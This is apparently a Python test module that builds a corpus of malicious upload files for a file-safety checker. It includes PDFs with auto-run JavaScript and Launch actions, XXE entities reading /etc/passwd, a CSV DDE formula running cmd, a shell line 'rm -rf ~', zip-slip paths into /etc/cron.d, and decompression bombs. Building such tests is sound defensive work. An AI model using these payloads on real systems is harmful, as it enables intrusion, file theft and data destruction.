"""Files that somebody might bring to harm whoever opens them, or the server; each made here, by what it tries."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.clamd_server import EICAR
from tests.factories.files import archive_of, docx, linked, open_document, parts_of, pdf_of, picture_of, xlsx

LIMIT = 200_000
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
_FOLDED = pikepdf.ObjectStreamMode.generate
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XML = '<?xml version="1.0"?>\n'
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500


def _script(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _opens_with(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(**action)

    return add


def _runs_by_name(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script(pdf)])))


def _annotates(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        pdf.pages[0].Annots = Array([pdf.make_indirect(link)])

    return add


def _brings_a_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["facture.exe"] = b"MZ\x90\x00"


def _acts_on_its_own(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://pirate.example/")))


def _goes_then_runs(pdf: pikepdf.Pdf) -> None:
    to_page = Array([pdf.pages[0].obj, Name.Fit])
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=to_page, Next=_script(pdf))


def _has_a_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=String("<xdp:xdp/>"), Fields=Array([]))


def _escaped_script() -> bytes:
    """A name may be written by the numbers of its letters; as long as before, so that the table of objects holds."""
    plain = pdf_of(_opens_with(S=Name("/JaXXXXXXt"), JX=String("app.alert(1)")), object_stream_mode=_PLAIN)
    return plain.replace(b"/JaXXXXXXt", b"/Launc#68 ")


_PLAIN = pikepdf.ObjectStreamMode.disable


def _pdf_bomb() -> bytes:
    """Eighty megabytes of strings, folded to a few hundred kilobytes."""

    def add(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Heavy = Array([pdf.make_indirect(String("0" * 10_000)) for _ in range(8000)])

    return pdf_of(add, object_stream_mode=_FOLDED)


def _png(width: int, height: int) -> bytes:
    """What a picture of that size says of itself, with hardly any point in it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack("!L", zlib.crc32(name + content))

    header = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def _link_archive() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked_archive() -> bytes:
    """The flag that says that a part is encrypted, in both places where it stands."""
    content = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + place] |= 1
    return bytes(content)


def _twice_the_same() -> bytes:
    return docx({"word/DOCUMENT.xml": "autre"})


def _written_by_numbers(links: str) -> str:
    return links.replace('"External"', '"&#69;xternal"')


def _wrong_sum() -> bytes:
    content = bytearray(docx(stored=frozenset({"word/document.xml"})))
    content[content.index(b"Bonjour")] ^= 0xFF
    return bytes(content)


_DDE = f'{_XML}<externalLink><ddeLink ddeService="cmd"/></externalLink>'
_DTD = f'{_XML}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
_LAUGHS = f'{_XML}<!-- attendez --><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
_PADDED = f"{_XML}<!--{' ' * 70_000}--><!DOCTYPE x><w:document/>"

# By what it tries: the name under which it comes, and what it holds.
CORPUS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "html named pdf": ("rapport.pdf", lambda: _HTML),
    "html": ("page.html", lambda: _HTML),
    "html named text": ("page.txt", lambda: b"\xef\xbb\xbf  " + _HTML),
    "svg with a script": ("logo.svg", lambda: _SVG),
    "svg named png": ("logo.png", lambda: _SVG),
    "svg named csv": ("logo.csv", lambda: _SVG),
    "xml": ("donnees.xml", lambda: b"<?xml version='1.0'?><a/>"),
    "pdf named docx": ("rapport.docx", pdf_of),
    "png named jpg": ("photo.jpg", lambda: picture_of("PNG")),
    "docx named xlsx": ("budget.xlsx", docx),
    "pdf without an extension": ("rapport", pdf_of),
    "double extension": ("facture.pdf.exe", pdf_of),
    "program": ("outil.exe", lambda: b"MZ\x90\x00" + b"\0" * 200),
    "program named txt": ("outil.txt", lambda: b"MZ\x90\x00\x03" + b"\0" * 200),
    "shell script named txt": ("outil.txt", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    "rtf named txt": ("lettre.txt", lambda: b"{\\rtf1{\\object\\objocx}}"),
    "formula that runs a program": ("liste.csv", lambda: b"Nom;Ville\n=cmd|'/c calc'!A1;Lens\n"),
    "text with zeros": ("notes.txt", lambda: b"Bonjour\x00la suite"),
    "gif that is a script": ("image.gif", lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "gif named png": ("image.png", lambda: b"GIF89a" + b"\0" * 60),
    "empty": ("vide.pdf", lambda: b""),
    "one byte too heavy": ("lourd.txt", lambda: b"a" * (LIMIT + 1)),
    "pdf that runs on opening": ("a.pdf", lambda: pdf_of(_opens_with(S=Name.JavaScript, JS=String("app.alert(1)")))),
    "pdf whose script is folded": (
        "a.pdf",
        lambda: pdf_of(_opens_with(S=Name.JavaScript, JS=String("1")), object_stream_mode=_FOLDED),
    ),
    "pdf that runs by name": ("a.pdf", lambda: pdf_of(_runs_by_name)),
    "pdf that launches": ("a.pdf", lambda: pdf_of(_annotates(S=Name.Launch, F=String("cmd.exe")))),
    "pdf that launches, escaped": ("a.pdf", _escaped_script),
    "pdf that brings a file": ("a.pdf", lambda: pdf_of(_brings_a_file)),
    "pdf that brings a file, folded": ("a.pdf", lambda: pdf_of(_brings_a_file, object_stream_mode=_FOLDED)),
    "pdf that opens an address": (
        "a.pdf",
        lambda: pdf_of(_opens_with(S=Name.URI, URI=String("https://pirate.example/"))),
    ),
    "pdf that acts on its own": ("a.pdf", lambda: pdf_of(_acts_on_its_own)),
    "pdf that goes, then runs": ("a.pdf", lambda: pdf_of(_goes_then_runs)),
    "pdf that sends": ("a.pdf", lambda: pdf_of(_annotates(S=Name.SubmitForm, F=String("https://pirate.example/")))),
    "pdf with a form that runs": ("a.pdf", lambda: pdf_of(_has_a_form)),
    "pdf that is locked": (
        "a.pdf",
        lambda: pdf_of(deterministic_id=False, encryption=pikepdf.Encryption(user="clé", owner="clé")),
    ),
    "pdf cut short": ("a.pdf", lambda: pdf_of()[:300]),
    "pdf that is nothing else than its header": ("a.pdf", lambda: b"%PDF-1.7\n"),
    "pdf after something else": ("a.pdf", lambda: b"\0\0" + pdf_of()),
    "pdf with a script in what follows its end": (
        "a.pdf",
        lambda: pdf_of() + b"\n9 0 obj<</S/JavaScript/JS(1)>>endobj",
    ),
    "pdf that unfolds without end": ("a.pdf", _pdf_bomb),
    "docx with a macro": ("a.docx", lambda: docx({"word/vbaProject.bin": _OLE})),
    "docm named docx": ("a.docx", lambda: docx(main=_MACRO)),
    "docm": ("a.docm", lambda: docx(main=_MACRO)),
    "docx with an object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": _OLE})),
    "docx with a program": ("a.docx", lambda: docx({"word/media/image1.png": b"MZ\x90\x00"})),
    "docx with an archive": ("a.docx", lambda: docx({"word/media/image1.png": archive_of({"a.exe": b"MZ"})})),
    "docx in a docx in a docx": ("a.docx", lambda: docx({"word/a.docx": docx({"word/b.docx": docx()})})),
    "docx with a template elsewhere": (
        "a.docx",
        lambda: docx({"word/_rels/settings.xml.rels": linked("attachedTemplate", "https://pirate.example/a.dotm")}),
    ),
    "docx with a picture elsewhere, written by numbers": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": _written_by_numbers(linked("image", "https://pirate.example/"))}),
    ),
    "docx that reads a file (XXE)": ("a.docx", lambda: docx({"word/document.xml": _DTD})),
    "docx that grows (entities)": ("a.docx", lambda: docx({"word/document.xml": _LAUGHS})),
    "docx whose entities hide far away": (
        "a.docx",
        lambda: docx({"word/document.xml": _PADDED}),
    ),
    "docx whose entities hide in wide letters": (
        "a.docx",
        lambda: docx({"word/document.xml": _DTD.encode("utf-16")}),
    ),
    "docx in an encoding that nobody reads": (
        "a.docx",
        lambda: docx({"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><w:document/>'}),
    ),
    "xlsx that reads a file (XXE)": (
        "a.xlsx",
        lambda: archive_of(parts_of(xlsx()) | {"xl/workbook.xml": _DTD}),
    ),
    "xlsx that runs a program (DDE)": (
        "a.xlsx",
        lambda: archive_of(parts_of(xlsx()) | {"xl/externalLinks/externalLink1.xml": _DDE}),
    ),
    "odt with macros": (
        "a.odt",
        lambda: open_document("text", {"Basic/Standard/Module1.xml": f"{_XML}<script:module/>"}),
    ),
    "odt that calls a macro": (
        "a.odt",
        lambda: open_document("text", {"content.xml": f'{_XML}<office:text xlink:href="vnd.sun.star.script:a.py$b"/>'}),
    ),
    "archive": ("a.zip", lambda: archive_of({"lisez-moi.txt": b"Bonjour"})),
    "archive named docx": ("a.docx", lambda: archive_of({"lisez-moi.txt": b"Bonjour"})),
    "archive that goes up (../)": ("a.docx", lambda: docx({"../../etc/cron.d/a": b"x"})),
    "archive with an absolute name": ("a.docx", lambda: docx({"/etc/cron.d/a": b"x"})),
    "archive with a link": ("a.docx", _link_archive),
    "archive with twice the same name": ("a.docx", _twice_the_same),
    "archive that is locked": ("a.docx", _locked_archive),
    "archive with a wrong sum": ("a.docx", _wrong_sum),
    "archive cut short": ("a.docx", lambda: docx()[:-30]),
    "archive that unfolds without measure": (
        "a.docx",
        lambda: docx({"word/media/a.bin": b"\0" * 12_000_000}),
    ),
    "archive of 50,000 parts": ("a.docx", lambda: _many_parts(50_000)),
    "picture of 30,000 by 30,000 points": ("a.png", lambda: _png(30_000, 30_000)),
    "picture cut short": ("a.png", lambda: picture_of("PNG", size=(200, 200))[:-2000]),
    "jpeg cut short": ("a.jpg", lambda: picture_of("JPEG", size=(200, 200))[:4000]),
    "picture that is only a header": ("a.webp", lambda: b"RIFF\x10\0\0\0WEBPVP8 "),
}

# Kept, and harmless all the same: what they hide goes, their name is cleaned, or no browser opens them in the page.
INERT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "extension within the name": ("facture.exe.pdf", pdf_of),
    "zero in the name": ("photo\0.php.png", lambda: picture_of("PNG")),
    "name that goes up": ("../../../etc/passwd.txt", lambda: b"Bonjour"),
    "name of 300 letters": ("a" * 300 + ".pdf", pdf_of),
    "name that turns the text": ("rapport-\u202efdp.txt", lambda: b"Bonjour"),
    "name of nothing": ("....pdf", pdf_of),
    "name with quotes and a line": ('a"; filename="b.html\r\nX: y.pdf', pdf_of),
    "picture with a page behind it": ("a.png", lambda: picture_of("PNG") + _HTML),
    "picture with an archive behind it": ("a.jpg", lambda: picture_of("JPEG") + archive_of({"a.jar": b"x"})),
    "picture that says where it was taken": (
        "a.jpg",
        lambda: picture_of("JPEG", exif=_somewhere(), comment=b"<script>"),
    ),
    "exactly as heavy as allowed": ("a.txt", lambda: b"a" * LIMIT),
    "page of the web in the middle of a text": ("a.txt", lambda: b"Voici :\n" + _HTML),
    "test of the antivirus, without antivirus": ("a.txt", lambda: EICAR),
}


def _somewhere() -> Any:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "Chez Anne"
    return exif


def _many_parts(count: int) -> bytes:
    return docx({f"a/{number}": b"" for number in range(count)})
